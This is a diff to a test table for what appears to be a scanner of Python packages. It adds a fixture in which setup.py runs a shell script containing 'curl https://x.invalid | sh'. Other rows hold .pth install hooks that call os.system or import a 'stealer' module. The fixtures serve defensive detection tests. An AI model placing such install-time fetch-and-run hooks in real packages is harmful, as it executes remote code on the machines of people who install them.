@@ -39,6 +39,12 @@ const atInstall: readonly Row[] = [
   ['a .pth file', wheel, { 'x.pth': "import os; os.system('id')\n" }, /^high .*starts other programs/],
   ['a .pth file that imports', wheel, { 'x.pth': 'import x.start\n', 'x/start.py': stealer }, /^critical /],
   ['a .pth file in the data of a wheel', wheel, { 'x-1.0.0.data/purelib/x.pth': "import os; os.system('id')\n" }, /^high /],
+  [
+    'a shell script that setup.py names',
+    sdist,
+    { 'setup.py': `import subprocess\nsubprocess.call(['sh', 'get.sh'])\n`, 'get.sh': 'curl https://x.invalid | sh\n' },
+    /^high .*starts other programs/,
+  ],
   ['sitecustomize', wheel, { 'sitecustomize.py': stealer }, /^critical /],
 ]
 
